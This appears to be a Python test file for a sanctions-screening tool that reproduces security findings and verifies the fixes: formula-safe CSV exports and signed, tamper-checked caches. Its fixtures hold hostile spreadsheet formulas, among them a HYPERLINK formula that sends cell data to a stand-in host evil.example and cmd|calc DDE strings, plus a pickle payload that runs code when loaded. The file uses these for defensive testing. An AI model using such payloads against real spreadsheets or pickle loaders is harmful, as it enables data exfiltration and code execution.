"""Issue 9, medium and low findings outside the API: each attack reproduced, each now safe.

CSV formula injection, downloads (plain http, redirects, deadline, credentials),
executable caches, secrets in messages, file modes, terminal escapes, CLI tracebacks.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import os
import pickle
import stat
from pathlib import Path

import pytest
from click.testing import CliRunner

from sanctions.cache import MAGIC, cache_key_path, read_cache, write_cache
from sanctions.cli import main
from sanctions.coordination.reports import render_csv
from sanctions.csvsafe import csv_writer, safe_cell
from sanctions.screening import parse_query
from sanctions.watch.keys import RecordKeys, load_keys

HOSTILE = {
    "=": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}

LISTED = [
    {"id": "os-putin", "schema": "Person", "properties": {"name": ["Vladimir Putin"]}},
    *(
        {"id": f"os-hostile-{i}", "schema": "Person", "properties": {"name": [value]}}
        for i, value in enumerate(HOSTILE.values())
    ),
]


@pytest.fixture()
def db(tmp_path: Path) -> str:
    source = tmp_path / "list.ftm.json"
    source.write_text("".join(json.dumps(e) + "\n" for e in LISTED))
    path = str(tmp_path / "s.db")
    result = CliRunner().invoke(main, ["--db", path, "load", str(source)])
    assert result.exit_code == 0, result.output
    return path


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _assert_no_formula(cells: list[str]) -> None:
    bad = [c for c in cells if c and c[0] in "=+-@\t\r"]
    assert not bad, f"cells a spreadsheet would evaluate: {bad}"


# -- CSV formula injection ------------------------------------------------------------


@pytest.mark.parametrize("prefix", list(HOSTILE))
def test_safe_cell_prefixes_every_formula_start_and_keeps_the_text(prefix: str) -> None:
    value = HOSTILE[prefix]
    assert safe_cell(value) == "'" + value
    assert safe_cell("Vladimir Putin") == "Vladimir Putin"
    assert safe_cell(-0.5) == -0.5 and safe_cell(3) == 3 and safe_cell(None) is None


def test_csv_writer_prefixes_cells_but_not_our_header() -> None:
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writeheader(["name", "score"])
    writer.writerow(["=1+1", -0.25])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["name", "score"], ["'=1+1", "-0.25"]]


def test_export_csv_of_hostile_list_names_is_formula_safe(db: str, tmp_path: Path) -> None:
    out = tmp_path / "export.csv"
    result = CliRunner().invoke(main, ["--db", db, "export", "--format", "csv", "-o", str(out)])
    assert result.exit_code == 0, result.output
    cells = _cells(out.read_text(encoding="utf-8"))
    _assert_no_formula(cells)
    for value in HOSTILE.values():
        assert "'" + value.strip() in cells  # the text is kept (as loaded), only made inert


def test_screen_out_csv_of_hostile_customer_names_is_formula_safe(db: str, tmp_path: Path) -> None:
    customers = tmp_path / "customers.csv"
    with open(customers, "w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["id", "name"])
        writer.writerow(["=cmd|' /C calc'!A0", "Vladimir Putin"])
        for i, value in enumerate(HOSTILE.values()):
            writer.writerow([f"c{i}", value])
    out = tmp_path / "results.csv"
    result = CliRunner().invoke(
        main,
        ["--db", db, "screen", "--file", str(customers), "--out", str(out), "--id-column", "id"],
    )
    assert result.exit_code == 0, result.output
    text = out.read_text(encoding="utf-8")
    _assert_no_formula(_cells(text))
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert "'=cmd|' /C calc'!A0" in {r["query_id"] for r in rows}
    assert any(r["match_caption"].startswith("'=HYPERLINK") for r in rows)  # listed names too


def test_audit_export_csv_is_formula_safe(db: str, tmp_path: Path) -> None:
    runner = CliRunner()
    result = runner.invoke(
        main,
        ["--db", db, "watch", "add", "=1+2", "--name", "@SUM(A1)", "--actor", "-evil"],
    )
    assert result.exit_code == 0, result.output
    out = tmp_path / "audit.csv"
    result = runner.invoke(main, ["--db", db, "audit", "export", "--format", "csv", "-o", str(out)])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    _assert_no_formula([c for r in rows for c in r.values()])
    assert "'-evil" in {r["actor"] for r in rows}


def test_coverage_report_csv_is_formula_safe() -> None:
    text = render_csv([{"programme": "=1+1", "count": -3}, {"programme": "ok", "count": 2}])
    assert list(csv.reader(io.StringIO(text))) == [
        ["programme", "count"],
        ["'=1+1", "-3"],
        ["ok", "2"],
    ]


# -- caches are not a way to run code -------------------------------------------------


class _Payload:
    """A pickle that, when loaded, creates a file: proof that loading ran code."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return (open, (str(self.marker), "w"))


def _plant(path: Path, marker: Path) -> None:
    path.write_bytes(pickle.dumps(_Payload(marker)))


def test_planted_pickle_in_the_index_cache_is_not_run_and_the_index_rebuilt(
    db: str, tmp_path: Path, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    cache = tmp_path / "index-cache"
    monkeypatch.setenv("SANCTIONS_INDEX_CACHE", str(cache))
    args = ["--db", db, "screen", "Vladimir Putin", "--json"]
    first = CliRunner().invoke(main, args)
    assert first.exit_code == 0, first.output
    assert any("-index-" in p.name for p in cache.glob("*.pickle")), "no index cache written"
    marker = tmp_path / "pwned"
    for path in cache.glob("*.pickle"):
        _plant(path, marker)
    with caplog.at_level(logging.WARNING, logger="sanctions.cache"):
        again = CliRunner().invoke(main, args)
    assert again.exit_code == 0, again.output
    assert not marker.exists()
    assert json.loads(again.stdout)["results"][0]["id"] == "os-putin"
    assert "no valid signature" in caplog.text
    assert all(p.read_bytes().startswith(MAGIC) for p in cache.glob("*.pickle"))  # rebuilt


def test_planted_pickle_in_the_watch_prefilter_cache_is_not_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SANCTIONS_INDEX_CACHE", str(tmp_path / "index-cache"))
    query = parse_query({"id": "c1", "properties": {"name": ["Vladimir Putin"]}})
    keys = RecordKeys([("c1", "h", query)])
    keys.save()
    path = RecordKeys.path_for(keys.digest)
    assert load_keys(keys.digest) is not None
    marker = tmp_path / "pwned"
    _plant(path, marker)
    assert load_keys(keys.digest) is None
    assert not marker.exists()


def test_cache_key_is_private_outside_the_cache_folder_and_checked(tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    cache.mkdir()
    target = cache / "x.pickle"
    assert write_cache(target, {"a": 1})
    key = cache_key_path()
    assert key.parent != cache and stat.S_IMODE(key.stat().st_mode) == 0o600
    assert read_cache(target) == {"a": 1}
    data = bytearray(target.read_bytes())
    data[-3] ^= 1  # one bit of the payload
    target.write_bytes(bytes(data))
    assert read_cache(target) is None


def test_cache_signed_with_another_key_or_with_an_open_key_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "cache" / "x.pickle"
    target.parent.mkdir()
    monkeypatch.setenv("SANCTIONS_CACHE_KEY_FILE", str(tmp_path / "one.key"))
    assert write_cache(target, [1, 2])
    monkeypatch.setenv("SANCTIONS_CACHE_KEY_FILE", str(tmp_path / "other.key"))
    assert read_cache(target) is None  # e.g. a cache file copied from another machine
    os.chmod(tmp_path / "other.key", 0o644)
    assert not write_cache(target, [1, 2]) and read_cache(target) is None
    monkeypatch.setenv("SANCTIONS_CACHE_KEY_FILE", str(target.parent / "in-cache.key"))
    assert not write_cache(target, [1, 2])  # a key the cache writer could replace
